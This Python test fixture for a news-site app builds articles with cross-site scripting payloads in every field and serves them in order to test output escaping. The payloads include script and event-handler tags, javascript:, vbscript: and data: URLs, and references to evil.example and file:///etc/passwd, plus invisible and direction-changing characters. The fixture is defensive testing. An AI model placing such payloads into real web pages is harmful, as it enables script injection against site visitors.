"""An article that is hostile in every field that a page can fill, and a site over it."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from lxml import html

from dateline.model import (
    Author,
    Candidate,
    Furniture,
    FurnitureKind,
    Link,
    Page,
    Reading,
    Repair,
    Sourced,
    Span,
    Weighed,
)
from dateline.serve.api import ApiSettings
from dateline.serve.app import ServeSettings, create_app
from dateline.store.database import open_database
from dateline.store.writer import Writer
from tests.serve.given_articles import profile
from tests.serve.small_site import numbered

MARK = "XSSMARK"
"""Stands in whatever would be run."""

ATTACKS = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"\"'><svg/onload={MARK}>",
    f"</title></textarea></style></script><script>{MARK}</script>",
    f'<a href="javascript:{MARK}">x</a>',
    f"<svg><a xlink:href='javascript:{MARK}'><text>x</text></a><animate onbegin={MARK}></svg>",
    f"<style>*{{background:url('https://evil.example/{MARK}')}}</style>",
    f'<b style="position:fixed;inset:0" onmouseover={MARK}>x</b>',
    f"{{{{ {MARK} }}}}{{% raw %}}${{{MARK}}}",
    f'<math><mi//xlink:href="data:x,<script>{MARK}</script>">',
    f"<form action=//evil.example><button formaction=javascript:{MARK}>x",
    f"<iframe srcdoc='<script>{MARK}</script>'></iframe><base href=//evil.example/><meta http-equiv=refresh content=0>",
    f"<div hx-get=//evil.example hx-on:load={MARK} data-hx-trigger=load>x</div>",
)
HIDDEN = (
    "\u202e\u2066\u2069\u200b\u200e\u200f\u061c\u00ad\u2060\ufeff\u034f\u115f\u3164\u2800"
    "\U000e0041\U000e0101\x07\x1b\x7f\u2028"
)
"""Letters that turn the direction of writing, or that nobody sees."""

ADDRESSES = (
    f"javascript:{MARK}",
    f" javascript:{MARK}",
    f"java\tscript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:{MARK}",
    f"https:javascript:{MARK}",
    f'https://x.example/" onmouseover="{MARK}',
    "//evil.example/x",
    "file:///etc/passwd",
)


def evil(attack: str) -> str:
    """The attack between letters that hide."""
    return f"{HIDDEN}{attack}{HIDDEN}"


def hostile_reading(attack: str, address: str, number: int) -> Reading:
    """A reading with the attack in every field that comes from a page, and the address in every address."""
    wanted, text = numbered(number, published="2024-05-04"), evil(attack)
    about = wanted.article
    body = about.text + "\n\n" + text
    last = about.paragraphs[-1]
    tail = Span(len(about.text) + 2, len(body))
    article = replace(
        about,
        text=body,
        paragraphs=(*about.paragraphs, replace(last, span=tail)),
        headline=Sourced(value=text, source=text),
        authors=(Author(name=text, handle=f"@{text}", avatar=address, profile=address, source=text),),
        site=Sourced(value=text, source=text),
        language=Sourced(value=attack[:40], source=text),
        canonical=Sourced(value=address, source=text),
        repairs=(Repair(span=Span(0, 4), original=text, result=body[0:4], rule=text, evidence=text),),
        furniture=(Furniture(kind=next(iter(FurnitureKind)), text=text, rule=text, score=0.5),),
    )
    mentions = tuple(replace(one, name=text, title=text, rule=text) for one in wanted.mentions)
    weighed = (Weighed(feature=text, amount=0.5, says=text),)
    other = Candidate(entity=f"Q9{attack[:20]}", name=text, score=0.4, features=weighed)
    links = tuple(_hostile(one, text, weighed, other) for one in wanted.links)
    known = profile(names=tuple(replace(one, text=text) for one in profile().entity.names))
    office = replace(known.offices[0].office, position=text, organisation=text)
    listing = replace(known.listings[0].listing, programme=text, authority=text)
    shown = replace(
        known,
        entity=replace(known.entity, source=address),
        offices=(replace(known.offices[0], office=office),),
        listings=(replace(known.listings[0], listing=listing),),
    )
    page = Page(
        address=f"{address}#{number}",
        content=b"x",
        fetched=datetime(2024, 5, 4, tzinfo=UTC),
        content_type=None,
    )
    return replace(
        wanted,
        page=page,
        article=article,
        mentions=mentions,
        events=tuple(replace(one, rule=text) for one in wanted.events),
        statements=tuple(replace(one, rule=text) for one in wanted.statements),
        links=links,
        profiles=(shown,),
    )


def _hostile(link: Link, text: str, weighed: tuple[Weighed, ...], other: Candidate) -> Link:
    chosen = replace(link.chosen, name=text, features=weighed) if link.chosen else None
    return replace(link, chosen=chosen, rejected=(other,), rule=text)


def hostile_site(path: Path) -> TestClient:
    """A site over one such article for each attack, which shows whole texts."""
    with open_database(path) as database:
        for number, attack in enumerate(ATTACKS):
            address = ADDRESSES[number % len(ADDRESSES)]
            Writer(database).write(hostile_reading(attack, address, number))
    settings = ServeSettings(
        database=path, full_text=True, address="https://news.example", api=ApiSettings(per_minute=0)
    )
    return TestClient(create_app(settings), raise_server_exceptions=False)


def parsed(text: str) -> Any:
    """A page as a tree."""
    return html.document_fromstring(text)
